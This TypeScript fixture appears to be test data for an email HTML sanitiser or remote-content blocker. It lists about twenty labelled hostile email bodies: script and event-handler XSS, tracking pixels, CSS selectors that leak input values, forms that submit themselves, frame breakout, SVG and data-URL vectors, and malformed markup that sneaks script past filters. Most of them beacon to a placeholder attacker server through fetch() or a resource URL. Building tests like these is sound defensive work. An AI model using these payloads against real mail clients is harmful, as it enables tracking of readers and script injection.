/** HTML of mails that want to run something, or to tell somebody that they are read. `{out}` is a server of theirs, `{own}` this service. */
export const hostileMails: readonly (readonly [name: string, html: string])[] = [
  ['a script', '<p>seen</p><script>fetch("{out}/script");parent.document.title="taken"</script>'],
  ['a script from elsewhere', '<p>seen</p><script src="{out}/x.js"></script>'],
  [
    'handlers',
    '<p>seen</p><img src=x onerror="fetch(\'{out}/onerror\')"><body onload="fetch(\'{out}/onload\')"><details open ontoggle="fetch(\'{out}/toggle\')">',
  ],
  [
    'links that run',
    '<p>seen</p><a href="javascript:fetch(\'{out}/js\')" autofocus onfocus="fetch(\'{out}/focus\')">x</a><iframe src="javascript:parent.document.title=1"></iframe>',
  ],
  [
    'a tracking image',
    '<p>seen</p><img src="{out}/pixel.gif" width="1" height="1"><img srcset="{out}/set.png 1x"><picture><source srcset="{out}/source.png"><img src="{out}/p.png"></picture><input type="image" src="{out}/input.png">',
  ],
  [
    'an image by our own address',
    '<p>seen</p><img src="{own}/healthz?leak"><img src="//{out}/slashes"><img src="/healthz?leak=2">',
  ],
  [
    'backgrounds',
    '<p>seen</p><table background="{out}/table.png"><tr><td background="{out}/td.png">x</td></tr></table><body background="{out}/body.png"><div style="background:url({out}/style.png)">x</div>',
  ],
  [
    'a style sheet that tells',
    '<p>seen</p><style>@import "{out}/import.css"; p{background:url("{out}/css.png")} input[value^="a"]{background:url({out}/a)} @font-face{font-family:f;src:url({out}/font)} p{font-family:f;cursor:url({out}/cursor),auto;list-style-image:url({out}/list)}</style><input value="abc">',
  ],
  [
    'a linked style sheet',
    '<p>seen</p><link rel="stylesheet" href="{out}/sheet.css"><link rel="icon" href="{out}/icon">',
  ],
  [
    'prefetching',
    '<p>seen</p><link rel="prefetch" href="{out}/prefetch"><link rel="preconnect" href="{out}"><link rel="dns-prefetch" href="{out}"><link rel="preload" as="image" href="{out}/preload"><link rel="prerender" href="{out}/prerender">',
  ],
  [
    'a form',
    '<p>seen</p><form action="{out}/form" method="post" id="f"><input name="password"><button autofocus>go</button></form><script>f.submit()</script><button form="f" formaction="{out}/formaction">x</button><isindex action="{out}/isindex">',
  ],
  ['a form to ourselves', '<p>seen</p><form action="{own}/api/v1/session" method="post"><button>x</button></form>'],
  [
    'a picture that is a document',
    '<p>seen</p><svg onload="fetch(\'{out}/svg\')"><script>fetch("{out}/svgscript")</script><image href="{out}/svgimage"/><use href="{out}/use#x"/><foreignObject><iframe src="{out}/foreign"></iframe></foreignObject><animate attributeName="href" values="{out}/animate"/></svg><img src="data:image/svg+xml,<svg xmlns=\'http://www.w3.org/2000/svg\' onload=\'fetch(1)\'><image href=\'{out}/datasvg\'/></svg>">',
  ],
  [
    'data that is a document',
    '<p>seen</p><iframe src="data:text/html,<script>fetch(\'{out}/data\')</script>"></iframe><object data="data:text/html,<img src={out}/object>"></object><a href="data:text/html,x">x</a>',
  ],
  [
    'frames and plug-ins',
    '<p>seen</p><iframe src="{out}/frame"></iframe><iframe srcdoc="<img src={out}/srcdoc>"></iframe><frameset><frame src="{out}/frameset"></frameset><object data="{out}/object"></object><embed src="{out}/embed"><applet code="{out}/applet"></applet><portal src="{out}/portal"></portal>',
  ],
  [
    'breaking out of the frame',
    '<p>seen</p><script>top.location="{out}/top"</script><a href="{out}/target" target="_top" id="t">x</a><base target="_top"><meta http-equiv="refresh" content="0;url={out}/refresh">',
  ],
  [
    'a refresh',
    '<p>seen</p><meta http-equiv="refresh" content="0; url={out}/refresh"><meta http-equiv="Set-Cookie" content="a=b"><meta http-equiv="Content-Security-Policy" content="default-src *">',
  ],
  ['another base', '<p>seen</p><base href="{out}/"><img src="relative.png"><a href="relative">x</a>'],
  [
    'media',
    '<p>seen</p><video src="{out}/video" poster="{out}/poster" autoplay></video><audio src="{out}/audio" autoplay></audio><video><source src="{out}/vsource"><track src="{out}/track" default></video>',
  ],
  [
    'our own marks',
    '<p>seen</p><img data-remote-src="{out}/marked" src="cid:none"><div id="app"></div><template><img src="{out}/template"></template>',
  ],
  [
    'the end of the document',
    '</body></html><p>seen</p><script>fetch("{out}/after")</script><!--><img src="{out}/comment">--><noscript><img src="{out}/noscript"></noscript><textarea><img src="{out}/textarea">',
  ],
  [
    'broken markup',
    '<p>seen</p><img src="{out}/a"<script>fetch("{out}/b")</script><<script>fetch("{out}/c")//<</script><math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=fetch(\'{out}/math\')&gt;">',
  ],
]
